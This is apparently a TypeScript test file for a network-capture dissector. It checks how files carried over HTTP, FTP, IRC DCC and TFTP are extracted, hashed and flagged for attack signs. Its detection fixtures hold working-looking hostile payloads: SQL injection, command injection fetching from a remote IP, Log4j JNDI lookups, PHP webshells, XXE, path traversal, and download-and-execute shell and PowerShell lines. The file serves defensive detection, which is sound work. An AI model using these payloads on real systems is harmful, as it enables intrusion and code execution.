import {createHash} from "node:crypto";
import {describe, expect, it} from "vitest";
import {itUnless} from "../../needs.ts";
import {noSharedData} from "../../shared-data.ts";
import type {MadePacket} from "../made-capture.ts";
import {ethernetUdp} from "../made-capture.ts";
import {tcp} from "../meter/frames.ts";
import type {RecordRow} from "./conversation.ts";
import {connection, type Said} from "./made-connection.ts";
import {dissectCapture, dissectPackets} from "./metered.ts";

const digest = (name: string, content: string | Uint8Array) =>
  createHash(name)
    .update(typeof content === "string" ? Buffer.from(content, "latin1") : content)
    .digest("hex");
const hashes = (content: string | Uint8Array) => ({md5: digest("md5", content), sha256: digest("sha256", content)});
const none = {md5: null, sha256: null};

/** The rows of `files`, without what is the same in all. */
async function filesOf(packets: readonly MadePacket[]) {
  const {records, heldBytes, flows} = await dissectPackets(packets);
  expect(heldBytes).toBe(0);
  const rows = (records.files ?? []).map(({flow_id, capture_sha256, ts, ...rest}: RecordRow) => rest);
  return {rows, flows};
}
const overHttp = async (said: readonly Said[], lost: readonly number[] = []) =>
  (await filesOf(connection(said, {lost}))).rows;

const get = (uri: string) => `GET ${uri} HTTP/1.1\r\nHost: a.example\r\n\r\n`;
const page = "<!doctype html><title>x</title>";
const row = {
  protocol: "http",
  sent_by: "responder",
  name: null as string | null,
  declared_type: null as string | null,
  found_type: null as string | null,
  attack_sign: null,
  encoding: null,
  size: 0,
  declared_size: null as number | null,
  complete: 1 as number | null
};

describe("files over HTTP", () => {
  it("have name, types, size and digests, from both sides and in every framing", async () => {
    const body = "\x89PNG\r\n\x1a\n".padEnd(5000, "\0\x01\x02");
    const said: Said[] = [
      [
        0,
        `POST /up/a%20b.bin?x=/y HTTP/1.1\r\nContent-Type: application/octet-stream\r\nContent-Length: ${body.length}\r\n\r\n`
      ],
      [0, body.slice(0, 63)],
      [0, body.slice(63, 200)],
      [0, body.slice(200)],
      [1, `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n${page.slice(0, 5)}\r`],
      [1, `\n${(page.length - 5).toString(16)};x\r\n${page.slice(5)}`],
      [1, "\r\n0\r\n\r\n"],
      [0, get("/dir/")],
      [
        1,
        `HTTP/1.1 200 OK\r\nContent-Disposition: attachment; filename="run me.exe"\r\nContent-Encoding: x\r\n\r\nMZ\x90`
      ],
      [1, "more of it"]
    ];
    expect(await overHttp(said)).toEqual([
      {
        ...row,
        ...{sent_by: "originator", name: "a%20b.bin", declared_type: "application/octet-stream"},
        ...{found_type: "image/png", size: 5000, declared_size: 5000, ...hashes(body)}
      },
      {...row, name: "a%20b.bin", declared_type: "text/html", found_type: "text/html", size: 31, ...hashes(page)},
      {
        ...row,
        ...{name: "run me.exe", found_type: "application/x-dosexec", encoding: "x", size: 13, complete: null},
        ...hashes("MZ\x90more of it")
      }
    ]);
  });

  it("of requests say by which words they attack, and ordinary ones nothing", async () => {
    const signs: readonly (readonly [string, string | null])[] = [
      ["user=admin%27+OR+%271%27%3D%271&password=x", "sql"],
      ["id=1%20UnIoN%20SELECT%20user()", "sql"],
      ["ip=127.0.0.1%3Bwget+http://198.51.100.7/a", "command"],
      ["<NewStatusURL>$(/bin/busybox wget -g 198.51.100.7)</NewStatusURL>", "command"],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it stands so in the file
      ['{"name": "${jndi:ldap://198.51.100.7/a}"}', "log4j"],
      ["a=%24%7B%24%7Blower:j%7Dndi:x%7D", "log4j"],
      ["pass=%40eval(base64_decode(%24_POST%5Bz0%5D))", "webshell"],
      ["--b\r\nContent-Disposition: form-data; name=f; filename=a.php\r\n\r\n<?php system($_GET['c']);", "webshell"],
      ["<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/hostname'>]><a>&b;</a>", "xxe"],
      ["\xac\xed\0\x05sr\0\x32sun.reflect.annotation.AnnotationInvocationHandler", "deserialization"],
      ["mail[%23post_render][]=exec&mail[%23markup]=id", "exploit"],
      ["class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "ognl"],
      ["file=../../../../etc/passwd", "traversal"],
      ["name=Tom+O%27Brien+or+Ann&text=select+all+from+the+list;+let+it+curl+up", null],
      ["text=The+union+selected+a+speaker%3B+wgets+of+100%25+%24%7Bname%7D&n=2%2B2", null],
      ["<?php echo 'hello'; ?>", null],
      ["<!DOCTYPE a [<!ENTITY b 'c'>]><a/>", null],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it stands so in the file
      ["function f() { return `${a}`; } a | b; c && d", null],
      ["%", null],
      ["%2", null]
    ];
    const said = signs.flatMap(([body], i): Said[] => [
      [0, `POST /${i} HTTP/1.1\r\nContent-Length: ${body.length}\r\n\r\n${body}`],
      [1, "HTTP/1.1 204 No Content\r\n\r\n"]
    ]);
    const rows = await overHttp(said);
    expect(rows.map(({attack_sign}) => attack_sign)).toEqual(signs.map(([, sign]) => sign));
  });

  it("of requests say that a host reports itself, or nothing but Base64", async () => {
    const base64 = "SGVsbG8gV29ybGQhIFRoaXMgaXMgYSB0ZXN0IG9mIEJhc2U2NA";
    const signs: [string, string | null][] = [
      ['{"hostname":"PC1","user":"ann","os":"Windows 10"}', "profile"],
      ["{'Computer_Name' : 'PC1', 'username': 'ann', 'OS-Version': '10'}", "profile"],
      ["pc=PC1&un=ann&windows=10", "profile"],
      ['{"hostname":"PC1","user":"ann","note":"my os"}', null],
      ['{"tags":["hostname","user","os"]}', null],
      [base64, "sealed"],
      [`p=${base64}%2B%3D`, "sealed"],
      [`id=7&data=${base64}&act=1000`, "sealed"],
      ["p=hellohellohellohellohellohellohellohellohello", null],
      [`p=${base64}&text=${"many+words.".repeat(12)}`, null],
      [`text=${"a".repeat(60)}&more=${"b".repeat(60)}&p=${base64}`, null],
      [`__VIEWSTATE=${base64}`, null],
      [`SAMLResponse=${base64}`, null],
      [base64.slice(0, 30), null]
    ];
    const said = signs.flatMap(([body], i): Said[] => [
      [0, `POST /${i} HTTP/1.1\r\nContent-Length: ${body.length}\r\n\r\n${body}`],
      [1, "HTTP/1.1 204 No Content\r\n\r\n"]
    ]);
    const rows = await overHttp(said);
    expect(rows.map(({attack_sign}) => attack_sign)).toEqual(signs.map(([, sign]) => sign));
  });

  it("say that they look encrypted, in either direction; text, zeros, few bytes and what zlib packed do not", async () => {
    let state = 1;
    const next = () => (state = (state * 1_103_515_245 + 12_345) % 2 ** 31) >> 16;
    const random = String.fromCharCode(...Array.from({length: 300}, () => next() % 256));
    const signs: readonly (readonly [string, string | null])[] = [
      [random, "cipher"],
      [random.slice(0, 60), "cipher"],
      [random.slice(0, 40), null],
      [`x\x9c${random}`, null],
      [[...random].map((byte, i) => (i % 4 === 0 ? "\0" : byte)).join(""), null],
      [[...random].map((byte) => String.fromCharCode(0x80 + (byte.charCodeAt(0) % 128))).join(""), null],
      [[...random].map((byte) => String.fromCharCode(0x20 + (byte.charCodeAt(0) % 95))).join(""), null]
    ];
    const said = signs.flatMap(([body], i): Said[] => [
      [0, `POST /${i} HTTP/1.1\r\nContent-Length: ${body.length}\r\n\r\n${body}`],
      [1, `HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`]
    ]);
    const rows = await overHttp(said);
    expect(rows.map(({attack_sign}) => attack_sign)).toEqual(signs.flatMap(([, sign]) => [sign, sign]));
  });

  it("of responses say what they show of an attack, and ordinary ones nothing", async () => {
    const stub = Buffer.concat([
      Buffer.from("4d5a90000300000004000000ffff0000b8000000000000004000000000000000", "hex"),
      Buffer.alloc(28),
      Buffer.from("80000000", "hex"),
      Buffer.from("This program cannot be run in DOS mode.".padEnd(600, "."))
    ]);
    const under = (key: readonly number[]) =>
      Buffer.from(stub.map((byte, i) => byte ^ key[i % key.length])).toString("latin1");
    const entry = (name: string) =>
      `PK\x03\x04${"\0".repeat(22)}${String.fromCharCode(name.length)}\0\0\0${name}var a=1;`;
    const signs: readonly (readonly [string, string | null])[] = [
      ["uid=33(www-data) gid=33(www-data) groups=33(www-data)\n", "output"],
      ["<pre>root:x:0:0:root:/root:/bin/bash\n</pre>", "output"],
      ["\r\nWindows IP Configuration\r\n\r\n", "output"],
      ['<script language=VBScript>Set s=CreateObject("WScript.Shell"):s.Run "x",0</script>', "script"],
      ["IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')", "script"],
      ["#!/bin/sh\ncd /tmp; wget http://198.51.100.7/mips; chmod 777 mips; ./mips\n", "script"],
      [stub.toString("base64"), "program"],
      [`-----BEGIN CERTIFICATE-----\r\n${stub.toString("base64")}`, "program"],
      [under([0x5a]), "program"],
      [under([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16]), "program"],
      [under([0x91, 0x17, 0x33]), "program"],
      [entry("invoice(4711).js"), "archive"],
      [entry("lib/index.js"), null],
      [entry("report.docx"), null],
      [stub.toString("latin1"), null],
      ["mz".padEnd(700, " "), null],
      ["x".repeat(700), null],
      ["the uid=ann of a directory, and its gid", null],
      ["#!/bin/sh\nset -e\ncurl -fsSL https://pkg.example/key | tee /etc/apt/keyrings/a.asc\n", null],
      ["cd /tmp; wget http://192.0.2.1/a; chmod 777 a; ./a", "script"],
      ["curl is a program. wget too: see http://a.example", null],
      ["$b = [Convert]::FromBase64String('QUJD')", "script"],
      ['<bean class="java.lang.ProcessBuilder" init-method="start">', "script"],
      ["<html><hta:application showintaskbar=no>", "script"],
      ["PK\x03\x04", null]
    ];
    const said = signs.flatMap(([body], i): Said[] => [
      [0, get(`/${i}`)],
      [1, `HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`]
    ]);
    const rows = await overHttp(said);
    expect(rows.map(({attack_sign}) => attack_sign)).toEqual(signs.map(([, sign]) => sign));
  });

  it("have no digests where bytes are missing, and are no files without bytes", async () => {
    const head = "HTTP/1.1 200 OK\r\nContent-Length: 300\r\n\r\n";
    const said: Said[] = [
      [0, get("/a")],
      [1, head],
      [1, "x".repeat(100)],
      [1, "y".repeat(100)],
      [1, "z".repeat(100)],
      [0, get("/b")],
      [1, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"],
      [0, get("/c").replace("GET", "HEAD")],
      [1, head],
      [0, get("/d")],
      [1, `${head}cut`]
    ];
    expect(await overHttp(said, [3])).toEqual([
      {...row, name: "a", found_type: "text/plain", size: 200, declared_size: 300, complete: 0, ...none},
      {...row, name: "d", found_type: "text/plain", size: 3, declared_size: 300, complete: 0, ...none}
    ]);
  });
});

/** Packets of another connection, from its handshake on. */
const dataConnection = (from: string, to: string, port: number, content: string, us: number): MadePacket[] => {
  const ends = [
    {src: from, srcPort: 50_000, dst: to, dstPort: port},
    {src: to, srcPort: port, dst: from, dstPort: 50_000}
  ] as const;
  const frame = (side: 0 | 1, flags: string, seq: number, ack: number, payload = "") =>
    Buffer.from(tcp({...ends[side], flags, seq, ack, payload}));
  // The server sends.
  const sender = from === "10.0.0.2" ? 0 : 1;
  const next: [number, number] = [101, 501];
  return [
    frame(0, "S", 100, 0),
    frame(1, "SA", 500, 101),
    frame(0, "A", 101, 501),
    frame(sender, "PA", next[sender], next[1 - sender], content)
  ].map((bytes, i) => ({us: us + i, frame: bytes}));
};

describe("files over FTP", () => {
  const content = "#!/bin/sh\necho hello\n";
  const file = {
    ...row,
    ...{protocol: "ftp", name: "pub/run.sh", found_type: "text/x-shellscript", size: content.length, complete: null},
    ...hashes(content)
  };
  const login: Said[] = [
    [1, "220 FTP\r\n"],
    [0, "USER ann\r\n"],
    [1, "230 Hello\r\n"]
  ];
  for (const [asked, answered, isActive] of [
    ["PASV\r\n", "227 Entering Passive Mode (10,0,0,2,200,13).\r\n", false],
    ["EPSV\r\n", "229 Entering Extended Passive Mode (|||51213|)\r\n", false],
    ["PORT 10,0,0,1,200,13\r\n", "200 PORT\r\n", true],
    ["EPRT |1|10.0.0.1|51213|\r\n", "200 EPRT\r\n", true]
  ] as const)
    it(`come by the connection that ${asked.slice(0, 4)} announces`, async () => {
      const said: Said[] = [...login, [0, asked], [1, answered], [0, "RETR pub/run.sh\r\n"], [1, "150 Now\r\n"]];
      const control = connection(said, {port: 21});
      const last = control.at(-1)!.us;
      const ends = isActive ? (["10.0.0.2", "10.0.0.1"] as const) : (["10.0.0.1", "10.0.0.2"] as const);
      const data = dataConnection(ends[0], ends[1], 51_213, content, last + 1000);
      const {rows, flows} = await filesOf([...control, ...data]);
      expect(rows).toEqual([{...file, sent_by: isActive ? "originator" : "responder"}]);
      expect(flows.map(({service}) => service).sort()).toEqual(["ftp", "ftp-data"]);
    });
});

describe("files that IRC announces (DCC SEND)", () => {
  const content = "#!/bin/sh\necho hello\n";
  const file = {...row, protocol: "dcc", name: "run.sh", found_type: "text/x-shellscript", size: content.length};
  /** 10.0.0.2 sends a file to 10.0.0.1, whom a server between them told; what comes back counts what came. */
  const sent = (announcement: string, size = content.length) => {
    const said: Said[] = [
      [0, "NICK ann\r\nUSER ann 0 * :Ann\r\n"],
      [1, ":bob!b@c PRIVMSG ann :hi\r\n:bob!b@c PRIVMSG ann :\x01DCC SE"],
      [1, `ND ${announcement}\x01\r\n`]
    ];
    const control = connection(said, {port: 6667});
    const us = control.at(-1)!.us + 1000;
    const ends = {src: "10.0.0.1", srcPort: 50_000, dst: "10.0.0.2", dstPort: 51_213};
    const count = Buffer.from([0, 0, 0, size]);
    const back = tcp({...ends, flags: "PA", seq: 101, ack: 501 + content.length, payload: count});
    const data = dataConnection("10.0.0.1", "10.0.0.2", 51_213, content, us);
    return filesOf([...control, ...data, {us: us + 10, frame: Buffer.from(back)}]);
  };

  it("come from the host of its address, in a connection of the name dcc, and are whole where they are as long as said", async () => {
    const {rows, flows} = await sent(`run.sh 167772162 51213 ${content.length}`);
    expect(rows).toEqual([{...file, declared_size: content.length, complete: 1, ...hashes(content)}]);
    expect(flows.map(({service}) => service).sort()).toEqual(["dcc", "irc"]);
  });

  it("may have names in quotes, are not whole where fewer bytes came, and unknown where no size is said", async () => {
    const part = await sent(`"run it.sh" 167772162 51213 ${content.length + 1}`);
    expect(part.rows).toEqual([{...file, name: "run it.sh", declared_size: content.length + 1, complete: 0, ...none}]);
    const open = await sent("run.sh 167772162 51213");
    expect(open.rows).toEqual([{...file, complete: null, ...hashes(content)}]);
  });

  it("are not told where another host or port is named, or the receiver waits", async () => {
    for (const announcement of [
      "run.sh 167772163 51213 21",
      "run.sh 167772162 51214 21",
      "run.sh 199 0 21 7",
      "run.sh x 51213"
    ]) {
      const {rows, flows} = await sent(announcement);
      expect(rows).toEqual([]);
      expect(flows.map(({service}) => service).sort()).toEqual(["irc", null]);
    }
  });

  itUnless(noSharedData)("have the digest that they have in tshark's stream", async () => {
    const {records} = await dissectCapture("pcap/zeek/irc-dcc-send.pcapng");
    expect(
      records.files?.map(({name, size, declared_size, complete, sha256}) => [
        name,
        size,
        declared_size,
        complete,
        sha256
      ])
    ).toEqual([["ssh.trace", 1320211, 1320211, 1, "566c4819a8130d65d29076930bd46dde5c2595a4a8be4a380857feb5b430ec6e"]]);
  });
});

describe("files over TFTP", () => {
  it("end with their first block where that is shorter than what both agreed to", async () => {
    const answer = Buffer.from("\0\x06tsize\x00346\0blksize\x001408\0", "latin1");
    const block = Buffer.concat([Buffer.from([0, 3, 0, 1]), Buffer.alloc(600, "a")]);
    const frames = [
      ethernetUdp("10.0.0.1", 40_000, "10.0.0.2", 69, Buffer.from("\0\x01default\0octet\0blksize\x001408\0", "latin1")),
      ethernetUdp("10.0.0.2", 50_000, "10.0.0.1", 40_000, answer),
      ethernetUdp("10.0.0.2", 50_000, "10.0.0.1", 40_000, block)
    ];
    const {rows} = await filesOf(frames.map((frame, i) => ({us: 1_700_000_000_000_000 + 1000 * i, frame})));
    const file = {protocol: "tftp", sent_by: "originator", name: "default", found_type: "text/plain", size: 600};
    expect(rows).toEqual([{...row, ...file, ...hashes("a".repeat(600))}]);
  });

  it("are put together from blocks of another flow, repeated ones passed over", async () => {
    const content = Buffer.from("%PDF-1.4 ".padEnd(1100, "x"));
    const block = (number: number) =>
      Buffer.concat([Buffer.from([0, 3, 0, number]), content.subarray(512 * (number - 1), 512 * number)]);
    const us = 1_700_000_000_000_000;
    const packets = [
      ethernetUdp("10.0.0.1", 40_000, "10.0.0.2", 69, Buffer.from("\0\x01boot.pdf\0octet\0", "latin1")),
      ...[1, 2, 2, 3].map((number) => ethernetUdp("10.0.0.2", 50_000, "10.0.0.1", 40_000, block(number)))
    ].map((frame, i) => ({us: us + 1000 * i, frame}));
    const file = {protocol: "tftp", sent_by: "originator", name: "boot.pdf", found_type: "application/pdf", size: 1100};
    expect((await filesOf(packets)).rows).toEqual([{...row, ...file, ...hashes(content)}]);
    const {rows} = await filesOf(packets.filter((_, i) => i !== 1));
    expect(rows).toEqual([{...row, ...file, found_type: null, size: 588, complete: 0, ...none}]);
  });
});
